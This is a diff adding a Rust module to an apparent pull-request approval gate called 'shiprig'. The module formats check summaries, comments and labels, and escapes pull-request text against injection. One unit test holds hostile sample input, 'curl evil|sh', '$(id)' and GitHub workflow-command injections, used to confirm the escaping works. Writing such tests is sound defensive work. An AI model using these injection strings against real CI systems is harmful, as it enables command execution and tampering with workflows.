@@ -1,0 +1,239 @@
+//! What the gate says: the check run's title and summary, the sticky comment, the labels, the
+//! job summary and the terminal line. Every piece of PR text is data: one line, escaped, cut.
+
+use std::fmt::Write as _;
+
+use super::approvals::short;
+use super::verdict::{Gated, Outcome, Trigger, Verdict};
+use crate::config::Config;
+
+/// The hidden marker that finds the sticky comment again.
+pub const MARKER: &str = "<!-- shiprig:human-gate -->";
+/// GitHub refuses check summaries over 65,535 characters.
+const SUMMARY_LIMIT: usize = 60_000;
+const TRIGGERS_SHOWN: usize = 25;
+
+/// Text from a pull request as one safe Markdown line: control characters shown escaped (so
+/// nothing can start a new line, a workflow command or a heading), Markdown and HTML
+/// punctuation escaped, cut to `max` characters.
+pub fn inline(text: &str, max: usize) -> String {
+    let mut out = String::new();
+    for (count, c) in text.chars().enumerate() {
+        if count == max {
+            out.push('…');
+            break;
+        }
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push(' '),
+            c if c.is_control() => out.push_str(&c.escape_unicode().to_string()),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '~' | '@' | '&' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+pub fn title(verdict: &Verdict) -> String {
+    match verdict.outcome {
+        Outcome::Pass if verdict.gated.is_empty() => "No gated change".to_string(),
+        Outcome::Pass => format!("Approved: {}", names(verdict.gated.iter())),
+        Outcome::NeedsHuman => format!(
+            "A human must approve: {}",
+            names(verdict.gated.iter().filter(|g| !g.satisfied()))
+        ),
+        Outcome::CannotJudge => "The gate cannot judge this change".to_string(),
+    }
+}
+
+fn names<'a>(gated: impl Iterator<Item = &'a Gated>) -> String {
+    gated
+        .map(|g| g.category.as_str())
+        .collect::<Vec<_>>()
+        .join(", ")
+}
+
+/// The check run's summary (Markdown).
+pub fn summary(verdict: &Verdict, config: &Config) -> String {
+    let mut out = String::new();
+    let _ = writeln!(
+        out,
+        "**{}** on `{}`\n",
+        title(verdict),
+        short(&verdict.head_sha)
+    );
+    if let Some(reason) = &verdict.reason {
+        let _ = writeln!(out, "The gate fails closed: {}\n", inline(reason, 500));
+    }
+    for gated in &verdict.gated {
+        category(&mut out, gated, config);
+    }
+    if let Some(agent) = &verdict.agent {
+        let _ = writeln!(
+            out,
+            "Written by agent `{}`: its approvals never count.\n",
+            inline(agent, 60)
+        );
+    }
+    if !verdict.ignored.is_empty() {
+        out.push_str("Approvals that do not count:\n");
+        for ignored in &verdict.ignored {
+            let _ = writeln!(out, "- {}: {}", inline(&ignored.login, 60), ignored.reason);
+        }
+    }
+    cap(out)
+}
+
+fn category(out: &mut String, gated: &Gated, config: &Config) {
+    let state = if gated.satisfied() {
+        format!("approved by {}", gated.approved_by.join(", "))
+    } else {
+        format!(
+            "needs {} approval(s), has {}",
+            gated.needed,
+            gated.approved_by.len()
+        )
+    };
+    let _ = writeln!(out, "### {} — {state}\n", gated.category);
+    let who = if gated.owners.is_empty() {
+        format!(
+            "anyone with `{}` permission",
+            serde_json::to_value(config.gate.humans.min_permission)
+                .ok()
+                .and_then(|v| v.as_str().map(str::to_string))
+                .unwrap_or_default()
+        )
+    } else {
+        gated.owners.join(", ")
+    };
+    let _ = writeln!(
+        out,
+        "Who may approve: {who} (not the author, a commit author, a bot or an agent).\n"
+    );
+    for trigger in gated.triggers.iter().take(TRIGGERS_SHOWN) {
+        let _ = writeln!(out, "- {}", describe(trigger));
+    }
+    if gated.triggers.len() > TRIGGERS_SHOWN {
+        let _ = writeln!(
+            out,
+            "- … and {} more",
+            gated.triggers.len() - TRIGGERS_SHOWN
+        );
+    }
+    out.push('\n');
+}
+
+pub fn describe(trigger: &Trigger) -> String {
+    match trigger {
+        Trigger::File { path, status } => format!("{status}: {}", inline(path, 200)),
+        Trigger::Line { path, sign, text } => format!(
+            "line in {}: {sign}{}",
+            inline(path, 200),
+            inline(text.trim(), 120)
+        ),
+        Trigger::Dependency(change) => inline(&change.describe(), 300),
+        Trigger::Unreadable { path, reason } => {
+            format!("cannot read {}: {}", inline(path, 200), inline(reason, 200))
+        }
+    }
+}
+
+fn cap(mut text: String) -> String {
+    if text.len() > SUMMARY_LIMIT {
+        let mut end = SUMMARY_LIMIT;
+        while !text.is_char_boundary(end) {
+            end -= 1;
+        }
+        text.truncate(end);
+        text.push_str("\n\n… (cut to fit GitHub's limit)\n");
+    }
+    text
+}
+
+/// The sticky comment: the marker, then the summary.
+pub fn comment(verdict: &Verdict, config: &Config) -> String {
+    format!(
+        "{MARKER}\n## shiprig human gate\n\n{}",
+        summary(verdict, config)
+    )
+}
+
+/// shiprig's own labels for this verdict: `human-gate` while a human is needed (or the gate
+/// cannot judge), `human-gate:<category>` for each category the change touches.
+pub fn labels(verdict: &Verdict, config: &Config) -> Vec<String> {
+    let base = &config.labels.human_gate;
+    let mut out = Vec::new();
+    if verdict.outcome != Outcome::Pass {
+        out.push(base.clone());
+    }
+    out.extend(
+        verdict
+            .gated
+            .iter()
+            .map(|g| format!("{base}:{}", g.category)),
+    );
+    out
+}
+
+/// Whether a label is one shiprig owns (and so may add or remove).
+pub fn owns_label(label: &str, config: &Config) -> bool {
+    let base = &config.labels.human_gate;
+    label.eq_ignore_ascii_case(base)
+        || label
+            .get(..base.len() + 1)
+            .is_some_and(|p| p.eq_ignore_ascii_case(&format!("{base}:")))
+}
+
+/// Labels to add and to remove so the owned labels equal `desired`; others are never touched.
+pub fn label_changes(
+    current: &[String],
+    desired: &[String],
+    config: &Config,
+) -> (Vec<String>, Vec<String>) {
+    let has = |list: &[String], l: &str| list.iter().any(|x| x.eq_ignore_ascii_case(l));
+    let add = desired
+        .iter()
+        .filter(|d| !has(current, d))
+        .cloned()
+        .collect();
+    let remove = current
+        .iter()
+        .filter(|c| owns_label(c, config) && !has(desired, c))
+        .cloned()
+        .collect();
+    (add, remove)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn pull_request_text_stays_one_escaped_line() {
+        let evil = "x\"; curl evil|sh; echo \"\n::add-mask::secret\r\n::stop-commands::t $(id) <b>";
+        let safe = inline(evil, 1000);
+        assert!(!safe.contains('\n') && !safe.contains('\r'));
+        assert!(!safe.contains("\n::"));
+        assert!(safe.contains("\\|") && safe.contains("\\<b\\>") && safe.contains("$(id)"));
+        let long = "é".repeat(10_000);
+        assert_eq!(inline(&long, 100).chars().count(), 101);
+    }
+
+    #[test]
+    fn only_owned_labels_are_removed() {
+        let config = Config::default();
+        let current = vec![
+            "human-gate:auth".to_string(),
+            "bug".to_string(),
+            "human-gatekeeper".to_string(),
+        ];
+        let desired = vec!["human-gate".to_string(), "human-gate:payments".to_string()];
+        let (add, remove) = label_changes(&current, &desired, &config);
+        assert_eq!(add, desired);
+        assert_eq!(remove, ["human-gate:auth"]);
+    }
+}
